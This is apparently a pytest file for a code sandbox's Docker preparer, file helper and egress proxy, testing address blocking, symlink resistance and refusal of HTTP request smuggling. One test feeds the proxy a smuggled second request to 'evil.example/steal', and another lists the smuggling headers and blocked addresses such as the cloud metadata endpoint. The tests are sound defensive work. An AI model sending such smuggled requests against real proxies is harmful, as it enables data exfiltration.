"""Issue 19, without Docker: environment scopes and image references, the helper's tree list,
and the egress proxy's one-request connections, idle tunnels and host addresses. The Docker
tier: tests/docker/test_trust_env.py."""

from __future__ import annotations

import asyncio
import importlib
import ipaddress
import os
import stat
from pathlib import Path

import pytest

from retcon_sandbox.backends import hostaccess
from retcon_sandbox.backends.docker.preparer import (
    is_environment,
    normal_reference,
    repository_scope,
)
from retcon_sandbox.backends.docker.sandboximages import LABEL_ENV_BASE, LABEL_ENV_SCOPE
from retcon_sandbox.backends.envkeys import scope_digest
from retcon_sandbox.repo.gitrepo import Repo
from tests.conftest import git

egress = importlib.import_module("retcon_sandbox.sandbox.egress")
helper = importlib.import_module("retcon_sandbox.sandbox.helper")
supervisor = importlib.import_module("retcon_sandbox.sandbox.supervisor")


# -- scopes and references -------------------------------------------------------------------


def make_repo(path: Path) -> Repo:
    path.mkdir()
    git(path, "init", "-q")
    return Repo(path)


def test_each_repository_has_its_own_scope_label(tmp_path: Path) -> None:
    one, two = make_repo(tmp_path / "one"), make_repo(tmp_path / "two")
    digest = scope_digest(repository_scope(one))
    assert digest == scope_digest(repository_scope(Repo(tmp_path / "one")))
    assert digest != scope_digest(repository_scope(two))
    assert str(tmp_path) not in digest and len(digest) == 32


@pytest.mark.parametrize(("name", "normal"), [
    ("debian", "debian:latest"), ("debian:12", "debian:12"),
    ("docker.io/library/debian:12", "debian:12"), ("docker.io/me/x", "me/x:latest"),
    ("localhost:5000/x", "localhost:5000/x:latest"), ("abcd", "abcd:latest"),
])
def test_references_are_compared_as_the_engine_lists_them(name: str, normal: str) -> None:
    assert normal_reference(name) == normal


def test_a_prepared_environment_is_known_by_its_labels_or_tag() -> None:
    assert is_environment((), {LABEL_ENV_BASE: "retcon-sandbox/base:1"})
    assert is_environment(("x:y",), {LABEL_ENV_SCOPE: "0" * 32})
    assert is_environment(("retcon-sandbox/env:0123",), {})
    assert not is_environment(("retcon-sandbox/base:0123",), {"other": "1"})


def test_setup_disk_and_kept_environments_come_from_the_command_line() -> None:
    policy = hostaccess.from_command_line([], False, "none", [], 10 * 1024**2, 1).setup
    assert (policy.disk, policy.keep) == (10 * 1024**2, 1)
    assert hostaccess.SetupPolicy().disk == 4 * 1024**3
    assert hostaccess.SetupPolicy().keep == 3


# -- the helper's tree list ------------------------------------------------------------------


def test_the_tree_list_is_the_helpers_own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch
                                          ) -> None:
    listed = tmp_path / "tree-files"
    for module in (helper, supervisor):  # the helper writes it, the snapshot's exec reads it
        monkeypatch.setattr(module, "TREE_LIST", str(listed))
    old = os.umask(0)  # whatever the umask, the list is 0600
    try:
        helper.write_tree_list(["a.py", "pkg/b.py"])
    finally:
        os.umask(old)
    st = listed.stat()
    assert stat.S_IMODE(st.st_mode) == 0o600 and st.st_uid == os.getuid()
    assert supervisor.read_tree_list() == {"a.py", "pkg/b.py"}
    listed.chmod(0o664)  # writable by the commands' group: not trusted
    with pytest.raises(OSError, match="not the helper's own"):
        supervisor.read_tree_list()


def test_the_tree_list_is_never_written_through_a_planted_file(tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch
                                                               ) -> None:
    listed = tmp_path / "tree-files"
    for module in (helper, supervisor):  # the helper writes it, the snapshot's exec reads it
        monkeypatch.setattr(module, "TREE_LIST", str(listed))
    os.symlink(tmp_path / "elsewhere", listed)
    with pytest.raises(helper.ToolError, match="cannot create the tree list"):
        helper.write_tree_list(["a.py"])
    assert not (tmp_path / "elsewhere").exists()
    with pytest.raises(OSError):
        supervisor.read_tree_list()  # never through a symlink


# -- the egress proxy ------------------------------------------------------------------------


def test_the_engine_hosts_addresses_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    extra, hosts = egress.host_addresses(["pypi.org", "--block=151.101.0.9", "--block=2a01::5",
                                          "--block=nonsense", ".Example.com"])
    assert hosts == ["pypi.org", ".example.com"]
    assert extra == {ipaddress.ip_address("151.101.0.9"), ipaddress.ip_address("2a01::5")}
    assert not egress.blocked("151.101.0.9")
    monkeypatch.setattr(egress, "EXTRA_BLOCKED", extra)
    assert egress.blocked("151.101.0.9") and egress.blocked("2a01::5")
    assert egress.blocked("::ffff:151.101.0.9")  # nor embedded in IPv6
    assert not egress.blocked("151.101.0.10")


def test_allow_lifts_a_reserved_range_never_loopback_metadata_or_the_host(
        monkeypatch: pytest.MonkeyPatch) -> None:
    """A network whose resolver answers in a documentation range (a TLS-intercepting one), or
    a private mirror: the user's --setup-allow-address, passed as --allow=NET."""
    monkeypatch.setattr(egress, "ALLOWED", [])
    monkeypatch.setattr(egress, "EXTRA_BLOCKED", {ipaddress.ip_address("10.0.0.1")})
    egress.host_addresses(["--allow=203.0.113.80", "--allow=10.0.0.0/8",
                           "--allow=nonsense", "pypi.org"])
    assert not egress.blocked("203.0.113.80") and egress.blocked("203.0.113.81")
    assert not egress.blocked("10.9.8.7")
    for never in ("127.0.0.1", "169.254.169.254", "0.0.0.0", "224.0.0.1", "10.0.0.1"):
        assert egress.blocked(never), never


def test_the_proxy_knows_its_own_gateway_and_addresses() -> None:
    found = egress.own_addresses()
    assert ipaddress.ip_address("127.0.0.1") in found  # this machine's loopback, from /proc


@pytest.mark.parametrize("header", [
    b"Transfer-Encoding: chunked", b"Content-Length: 1\r\nContent-Length: 2",
    b"Content-Length: -1", b"Upgrade: h2c", b"TE: trailers", b"Expect: 100-continue",
])
def test_plain_http_carries_one_request_with_a_declared_body(header: bytes) -> None:
    with pytest.raises(egress.Refused):
        egress.parse(b"POST http://pypi.org/x HTTP/1.1\r\n" + header + b"\r\n\r\n")


async def one_request_through(client_bytes: bytes) -> tuple[bytes, bytes]:
    """A client's bytes through `one_request` to an upstream that answers once: (what the
    upstream received, what the client received)."""
    received = bytearray()
    done = asyncio.Event()

    async def upstream(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        received.extend(await reader.readexactly(4))  # the body
        writer.write(b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: 2\r\n\r\nok")
        await writer.drain()
        writer.write_eof()
        received.extend(await reader.read())  # anything more, until the proxy closes
        writer.close()
        done.set()

    async def proxy(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        _, _, _, rest = egress.parse(head)
        up_reader, up_writer = await asyncio.open_connection("127.0.0.1", up_port)
        await egress.one_request(reader, writer, up_reader, up_writer, rest)

    up_server = await asyncio.start_server(upstream, "127.0.0.1", 0)
    up_port = up_server.sockets[0].getsockname()[1]
    proxy_server = await asyncio.start_server(proxy, "127.0.0.1", 0)
    reader, writer = await asyncio.open_connection(
        "127.0.0.1", proxy_server.sockets[0].getsockname()[1])
    writer.write(client_bytes)
    await writer.drain()
    answer = await asyncio.wait_for(reader.read(), 30)
    await asyncio.wait_for(done.wait(), 30)
    writer.close()
    up_server.close()
    proxy_server.close()
    return bytes(received), answer


def test_a_pipelined_second_request_never_reaches_the_upstream() -> None:
    first = (b"POST http://pypi.org/a HTTP/1.1\r\nContent-Length: 4\r\n\r\nbody")
    smuggled = b"GET http://evil.example/steal HTTP/1.1\r\nHost: evil.example\r\n\r\n"
    received, answer = asyncio.run(one_request_through(first + smuggled))
    assert received == b"body"  # after the head: the declared body, nothing more
    assert answer.endswith(b"\r\n\r\nok")


def test_an_idle_tunnel_is_closed() -> None:
    async def scenario() -> bytes:
        async def quiet(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            await reader.read()  # says nothing, ever

        server = await asyncio.start_server(quiet, "127.0.0.1", 0)
        port = server.sockets[0].getsockname()[1]
        up_reader, up_writer = await asyncio.open_connection("127.0.0.1", port)
        down_reader, down_writer = await asyncio.open_connection("127.0.0.1", port)
        activity = egress.Activity(0.2)
        activity.writers = [up_writer, down_writer]
        await asyncio.wait_for(asyncio.gather(egress.pipe(down_reader, up_writer, activity),
                                              egress.pipe(up_reader, down_writer, activity)),
                               60)
        server.close()
        return b"closed"

    assert asyncio.run(scenario()) == b"closed"


def test_idle_connections_cannot_lock_out_a_new_client(monkeypatch: pytest.MonkeyPatch) -> None:
    """MAX_CLIENTS connections that say nothing (a head that never comes, a tunnel left open)
    used to refuse every other client until they timed out; the one idle longest now makes
    room. Clients that are all busy still meet the limit. Each half sets the idle limit so that
    its outcome does not depend on how fast a loaded machine runs the loop."""

    async def scenario(newcomer: bytes) -> tuple[bytes, bytes]:
        ready: asyncio.Future[int] = asyncio.get_running_loop().create_future()
        server = asyncio.ensure_future(egress.main(0, ["pypi.org"], ready=ready))
        port = await ready
        idle = [await asyncio.open_connection("127.0.0.1", port)
                for _ in range(egress.MAX_CLIENTS)]
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(newcomer)
        answer = await asyncio.wait_for(reader.read(), 30)
        first = b"open" if not newcomer else await asyncio.wait_for(idle[0][0].read(), 30)
        for _, each in [*idle, (reader, writer)]:
            each.close()
        server.cancel()
        return answer, first

    monkeypatch.setattr(egress, "EVICT_IDLE", 3600.0)  # none idle long enough: all busy
    busy, _ = asyncio.run(scenario(b""))
    monkeypatch.setattr(egress, "EVICT_IDLE", 0.0)  # every one idle long enough
    answer, evicted = asyncio.run(scenario(b"CONNECT 127.0.0.1:443 HTTP/1.1\r\n\r\n"))
    assert busy == b""  # refused: closed at once
    assert answer.startswith(b"HTTP/1.1 403 Forbidden") and b"is an address" in answer
    assert evicted == b""  # the idlest was closed
